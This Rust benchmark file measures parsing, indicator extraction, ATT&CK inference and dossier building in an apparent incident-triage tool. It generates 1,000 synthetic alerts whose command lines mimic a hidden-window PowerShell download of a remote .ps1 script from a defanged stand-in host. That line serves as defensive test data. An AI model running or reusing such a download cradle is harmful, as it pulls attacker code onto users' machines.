//! CPU spent per case in the pure stages (no I/O): parsing the XDR payload, extracting and
//! classifying indicators, inferring ATT&CK techniques, building the deterministic dossier and its
//! comment, and pseudonymizing the evidence for the model. `cargo bench -p dossier-local`.
//!
//! Besides the bundled incidents, a 1,000-alert incident built from the demo incident: each alert
//! keeps its shape but gets its own host, addresses, hash and command line (with a defanged URL),
//! so extraction has a thousand alerts' worth of distinct indicators to find, normalise and rank.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use dossier_core::config::Phase;
use dossier_core::domain::InternalNames;
use dossier_core::domain::{Case, CaseKey, IncidentHint, Trigger};
use dossier_core::dossier::{deterministic, render_comment};
use dossier_core::extract::extract;
use dossier_core::stages::apply_extra_data;
use dossier_core::synthesis::{build_pack, Pseudonyms, DEFAULT_TOKEN_BUDGET};
use dossier_core::xdr::parse_extra_data;
use dossier_local::samples::SAMPLES;

fn collected_case(raw: &str) -> Case {
    let names = InternalNames::default();
    let mut data = parse_extra_data(raw).expect("sample parses");
    let first = data.swap_remove(0);
    let extraction = extract(&first, &names);
    let key = CaseKey::new("bench", &first.incident.incident_id).expect("sample id is a valid key");
    let mut case = Case::new(key, Trigger::Local, IncidentHint::default(), 0, &Default::default());
    apply_extra_data(&mut case, &first, extraction, 500);
    case
}

/// The demo incident grown to `alerts` alerts, each with distinct indicators.
fn large_incident(alerts: usize) -> String {
    let mut v: serde_json::Value = serde_json::from_str(SAMPLES[0].extra_data).expect("demo sample parses");
    let template = v["reply"]["alerts"]["data"][0].clone();
    let grown: Vec<serde_json::Value> = (0..alerts)
        .map(|i| {
            let mut a = template.clone();
            a["alert_id"] = serde_json::json!(format!("{}", 500_000 + i));
            a["host_name"] = serde_json::json!(format!("FIN-WS-{:04}", i % 300));
            a["host_ip"] = serde_json::json!(format!("10.20.{}.{}", i / 250, i % 250 + 1));
            a["actor_process_image_sha256"] = serde_json::json!(format!("{:064x}", 0x5eed_0000_u64 + i as u64));
            a["actor_process_command_line"] = serde_json::json!(format!(
                "powershell.exe -nop -w hidden -c iwr hxxps://cdn-{}[.]update-{}[.]net/s{i}.ps1; nslookup 203.0.{}.{} ; T1105",
                i % 97,
                i % 13,
                (i / 250) % 250,
                i % 250 + 1
            ));
            a
        })
        .collect();
    v["reply"]["alerts"]["data"] = serde_json::Value::Array(grown);
    v["reply"]["alerts"]["total_count"] = serde_json::json!(alerts);
    v.to_string()
}

fn large(c: &mut Criterion) {
    let raw = large_incident(1000);
    let case = collected_case(&raw);
    // The stored case keeps the 500 highest-ranked indicators; extraction saw them all.
    assert!(case.indicators.len() >= 400 && case.alert_count == 1000, "{} indicators", case.indicators.len());
    c.bench_function("collect: parse + extract + infer (1,000 alerts)", |b| b.iter(|| collected_case(black_box(&raw))));
    c.bench_function("dossier: deterministic + comment (1,000 alerts)", |b| {
        b.iter(|| {
            let d = deterministic(black_box(&case), &[], &[]);
            render_comment(&case, "draft-1", &d, &[])
        })
    });
}

fn per_case(c: &mut Criterion) {
    let names = InternalNames::default();
    for sample in SAMPLES {
        c.bench_function(&format!("collect: parse + extract + infer ({})", sample.name), |b| {
            b.iter(|| collected_case(black_box(sample.extra_data)))
        });
        let case = collected_case(sample.extra_data);
        c.bench_function(&format!("dossier: deterministic + comment ({})", sample.name), |b| {
            b.iter(|| {
                let d = deterministic(black_box(&case), &[], &[]);
                render_comment(&case, "draft-1", &d, &[])
            })
        });
        // The prompt as synthesis builds it: the evidence pack, masked string by string.
        let baseline = deterministic(&case, &[], &[]);
        c.bench_function(&format!("synthesis: evidence pack and prompt ({})", sample.name), |b| {
            b.iter(|| {
                let mut p = Pseudonyms::for_case(black_box(&case));
                build_pack(&case, &[], &baseline, &mut p, &names, Phase(2), DEFAULT_TOKEN_BUDGET)
            })
        });
        let evidence = serde_json::to_string(&case.indicators).expect("indicators serialize");
        c.bench_function(&format!("synthesis: pseudonymize evidence ({})", sample.name), |b| {
            b.iter(|| {
                let mut p = Pseudonyms::for_case(black_box(&case));
                p.learn(&evidence, &names);
                p.hide(&evidence)
            })
        });
    }
}

criterion_group!(benches, per_case, large);
criterion_main!(benches);
